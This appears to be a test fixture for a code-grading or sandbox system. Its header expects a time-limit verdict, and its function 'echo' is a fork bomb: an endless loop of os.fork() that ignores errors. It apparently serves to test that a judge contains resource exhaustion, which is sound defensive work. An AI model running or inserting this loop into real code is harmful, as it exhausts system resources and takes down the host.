# id: R14
# priority: P0
# verdict: TLE
# invariants: I4 I7
# why: forks for ever and takes no for an answer
import os


def echo(numbers, text):
    while True:
        try:
            os.fork()
        except OSError:
            pass
